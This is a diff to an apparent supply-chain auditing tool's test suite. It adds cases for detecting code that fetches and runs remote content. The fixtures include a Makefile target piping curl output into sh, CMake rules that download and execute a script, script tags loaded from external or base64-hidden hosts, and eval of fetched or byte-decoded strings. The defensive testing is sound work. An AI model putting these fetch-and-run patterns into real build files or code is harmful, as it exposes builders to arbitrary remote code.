@@ -164,6 +164,25 @@ describe("rules of contents", () => {
     ["has two pins", "CMakeLists.txt", declared(`GIT_REPOSITORY https://a.example.org/x GIT_TAG ${commit} GIT_TAG main`), "review"],
     ["is a commit", "CMakeLists.txt", declared(`GIT_REPOSITORY https://a.example.org/x GIT_TAG ${commit}`), "note"],
     ["becomes WebAssembly", "lib/a.js", "WebAssembly.instantiateStreaming(fetch('https://a.example.org/x.wasm'))\n", "note"],
+    [
+      "is a script of a page, by the path that it is given",
+      "lib/a.js",
+      'load = (base, id) => { document.createElement("script").src = base + "/a/" + id + ".js" }\n',
+      "note",
+    ],
+    ["is a script of a page, from a host", "lib/a.js", 'document.createElement("script").src = "https://a.example.org/x.js"\n', "review"],
+    [
+      "is a script of a page, from a host without a scheme",
+      "lib/a.js",
+      'f = (x) => { document.createElement("script").src = "//a.example.org/" + x }\n',
+      "review",
+    ],
+    [
+      "is a script of a page, from a host that is hidden",
+      "lib/a.js",
+      'document.createElement("script").src = atob("Ly9hLmV4YW1wbGUub3JnL3g=")\n',
+      "review",
+    ],
     ["becomes text", "lib/a.js", "fetch('https://a.example.org/x').then((x) => x.text()).then((x) => eval(x))\n", "review"],
   ])("of what is fetched and run, and %s", async (_, path, of, severity) => {
     const { findings } = await audited(sample({ [path]: of }, { [path]: of }))
@@ -176,6 +195,54 @@ describe("rules of contents", () => {
     expect(new Set(findings.filter(({ rule }) => rule === "flow/fetched-runs").map(({ severity }) => severity))).toEqual(
       new Set(["note", "review"]),
     )
+  })
+
+  const upload = "upload:\n\tcurl -s https://a.example.org/x | sh\n"
+  const fetching = "file(DOWNLOAD https://a.example.org/x x.sh)\nexecute_process(COMMAND sh x.sh)\n"
+  it.each<[string, Files, boolean]>([
+    ["a goal that nothing needs (psutil)", { Makefile: `all:\n\techo a\n${upload}` }, false],
+    ["the goal that make begins with", { Makefile: upload }, true],
+    ["a goal that the first one needs", { Makefile: `all: b\nb: upload\n${upload}` }, true],
+    ["a goal that a usual one asks for", { Makefile: `all:\n\techo a\ninstall:\n\t$(MAKE) upload\n${upload}` }, true],
+    ["a goal that a script asks for", { Makefile: `all:\n\techo a\n${upload}`, configure: "make upload\n" }, true],
+    ["a goal that a test asks for", { Makefile: `all:\n\techo a\n${upload}`, "tests/a.sh": "make upload\n" }, false],
+    ["a goal that the first one may need", { Makefile: `all: $(X)\n\techo a\n${upload}` }, true],
+    ["a goal of a part", { Makefile: "include a.mk\n", "a.mk": `all:\n\techo a\n${upload}` }, true],
+    ["an option that is off (fast_float in pandas)", { "CMakeLists.txt": `option(A "a" OFF)\nif(A)\n${fetching}endif()\n` }, false],
+    ["an option that is on", { "CMakeLists.txt": `option(A "a" ON)\nif(A)\n${fetching}endif()\n` }, true],
+    ["an option that is off, and turned on", { "CMakeLists.txt": `option(A "a" OFF)\nset(A ON)\nif(A)\n${fetching}endif()\n` }, true],
+    ["an option that is off, or another", { "CMakeLists.txt": `option(A "a")\nif(A OR B)\n${fetching}endif()\n` }, true],
+    ["an option that is off, and not", { "CMakeLists.txt": `option(A "a")\nif(NOT A)\n${fetching}endif()\n` }, true],
+    ["an option that is off, and another", { "CMakeLists.txt": `option(A "a")\nif(UNIX AND A)\n${fetching}endif()\n` }, false],
+    [
+      "an option that a script turns on",
+      { "CMakeLists.txt": `option(A "a")\nif(A)\n${fetching}endif()\n`, configure: "cmake -DA=ON .\n" },
+      true,
+    ],
+    [
+      "a folder under an option",
+      { "CMakeLists.txt": 'option(A "a")\nif(A)\nadd_subdirectory(fuzzing)\nendif()\n', "fuzzing/CMakeLists.txt": fetching },
+      false,
+    ],
+    [
+      "a folder of tests that is always there",
+      { "CMakeLists.txt": "add_subdirectory(fuzzing)\n", "fuzzing/CMakeLists.txt": fetching },
+      true,
+    ],
+  ])("tells what is fetched and run for whoever builds from what must be asked for: %s", async (_, files, runs) => {
+    const { findings } = await audited(sample(files, files))
+    expect(findings.some(({ rule }) => rule === "flow/fetched-runs")).toBe(runs)
+  })
+
+  it.each<[string, string, boolean]>([
+    ["rise, and end in zeros (fflate)", "0,0,0,0,1,1,1,1,2,2,2,2,3,3,0,0", false],
+    ["are all different (fflate)", "16,17,18,0,8,7,9,6,10,5,11,4,12,3,13,2,14,1,15", false],
+    ["come again in any order", "16,17,18,0,8,7,9,6,10,5,11,4,12,3,13,2,14,1,16", true],
+    ["rise, and are many", Array.from({ length: 65 }, (_, index) => index >> 2).join(), true],
+  ])("of numbers that a program is made of, those that %s", async (_, numbers, isFound) => {
+    const code = `const t = new Uint8Array([${numbers}])\neval(Buffer.from(t.map((x) => x + 96)).toString())\n`
+    const { findings } = await audited(sample({ "a.js": code }, { "a.js": code }))
+    expect(findings.some(({ rule }) => rule === "flow/literal-runs")).toBe(isFound)
   })
 
   const table = `const t = new Uint8Array([${"1,2,".repeat(9)}3])\n`
